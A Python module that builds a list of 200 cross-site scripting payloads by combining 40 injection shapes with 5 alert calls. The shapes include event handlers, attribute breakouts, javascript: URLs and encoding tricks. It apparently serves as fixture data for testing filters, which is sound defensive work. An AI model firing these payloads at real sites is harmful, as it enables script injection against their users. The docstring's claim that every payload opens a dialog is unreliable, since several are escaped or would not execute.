"""Two hundred ways to run a script in somebody else's page; each would open a dialog."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval('al'+'ert(1)')", "alert&lpar;1&rpar;")
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<mark><img src=x onerror={}></mark>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    '"><img src=x onerror={}>',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "javascript://a.vn/%0a{}",
    "{{{{{}}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<scr<script>ipt>{}</scr</script>ipt>",
)

PAYLOADS = [shape.format(call) for shape, call in product(_SHAPES, _CALLS)]
